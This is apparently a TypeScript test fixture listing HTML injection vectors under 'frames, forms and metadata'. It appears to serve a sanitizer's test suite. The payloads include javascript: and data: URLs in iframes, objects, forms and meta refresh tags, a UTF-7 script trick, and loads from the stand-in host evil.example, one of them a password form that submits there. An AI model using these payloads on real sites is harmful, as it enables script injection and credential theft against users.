import { category } from '../vector.ts'

export const framesAndForms = category('frames, forms and metadata', {
  'iframe of javascript': '<iframe src="javascript:parent.__xss=1"></iframe>',
  'iframe with a document': '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
  'iframe with a document of entities':
    '<iframe srcdoc="&lt;script&gt;parent.__xss=1&lt;/script&gt;"></iframe>',
  'iframe of a data URL': '<iframe src="data:text/html,<script>parent.__xss=1</script>"></iframe>',
  'iframe of another site': '<iframe src="https://evil.example/"></iframe>',
  'iframe never closed': '<iframe src=javascript:parent.__xss=1',
  'frame in a frame set': '<frameset><frame src="javascript:parent.__xss=1"></frameset>',
  'object of javascript': '<object data="javascript:__xss=1"></object>',
  'object of a data URL':
    '<object data="data:text/html,<script>parent.__xss=1</script>" type="text/html"></object>',
  'object with a parameter': '<object><param name="src" value="javascript:__xss=1"></object>',
  'embed of javascript': '<embed src="javascript:__xss=1">',
  'embed with code': '<embed code="https://evil.example/x.swf" allowscriptaccess=always>',
  applet: '<applet code="x" codebase="https://evil.example/"></applet>',
  portal: '<portal src="https://evil.example/"></portal>',
  'fenced frame': '<fencedframe src="https://evil.example/"></fencedframe>',
  'form of javascript': '<form action="javascript:__xss=1"><input type=submit value=x></form>',
  'button with its own action': '<form><button formaction="javascript:__xss=1">x</button></form>',
  'input with its own action': '<form><input type=image src=x formaction="javascript:__xss=1"></form>',
  'button of a form elsewhere': '<form id=f></form><button form=f formaction="javascript:__xss=1">x</button>',
  'form to another site': '<form action="https://evil.example/"><input name=password type=password></form>',
  'command of a button':
    '<button command="show-modal" commandfor="d" onclick=__xss=1>x</button><dialog id=d></dialog>',
  'key generator': '<keygen autofocus onfocus=__xss=1>',
  'input of a checkbox': '<input type=checkbox disabled onfocus=__xss=1 onmouseover=__xss=1 autofocus>',
  'task list with a handler': '- [ ] <input type=checkbox disabled checked onclick=__xss=1>',
  'meta refresh of javascript': '<meta http-equiv="refresh" content="0;url=javascript:__xss=1">',
  'meta refresh to another site': '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  'meta refresh of a data URL':
    '<meta http-equiv=refresh content="0;url=data:text/html,<script>__xss=1</script>">',
  'meta with a policy': `<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline' *">`,
  'meta with a character set': '<meta charset="utf-7">+ADw-script+AD4-__xss=1+ADw-/script+AD4-',
  'meta referrer': '<meta name="referrer" content="unsafe-url">',
  'base address': '<base href="https://evil.example/">[x](/y)',
  'base target': '<base target="_blank" href="javascript:/a/-__xss=1///">',
  'style sheet of another site': '<link rel="stylesheet" href="https://evil.example/x.css">',
  'preload of another site': '<link rel="preload" as="script" href="https://evil.example/x.js">',
  'prefetch of another site':
    '<link rel="dns-prefetch" href="//evil.example"><link rel="prerender" href="https://evil.example">',
  'module preload': '<link rel="modulepreload" href="data:text/javascript,__xss=1">',
  'imported HTML': '<link rel="import" href="https://evil.example/x.html">',
  'manifest and icon':
    '<link rel="manifest" href="https://evil.example/m"><link rel="icon" href="https://evil.example/i">',
  'video of another site':
    '<video src="https://evil.example/x.mp4" autoplay poster="https://evil.example/x.png"></video>',
  'audio of another site': '<audio src="https://evil.example/x.mp3" autoplay></audio>',
  'track of another site': '<video><track default src="https://evil.example/x.vtt" onload=__xss=1></video>',
  'set of sources':
    '<img src="/media/x.png" srcset="https://evil.example/x.png 1x, https://evil.example/y.png 2x">',
  'picture source':
    '<picture><source srcset="https://evil.example/x.png" onerror=__xss=1><img src="/media/x.png"></picture>',
  'set of sources, image preload': '<link rel=preload as=image imagesrcset="https://evil.example/x.png">',
  'attribution source': '<img src="/media/x.png" attributionsrc="https://evil.example/a" crossorigin>',
})
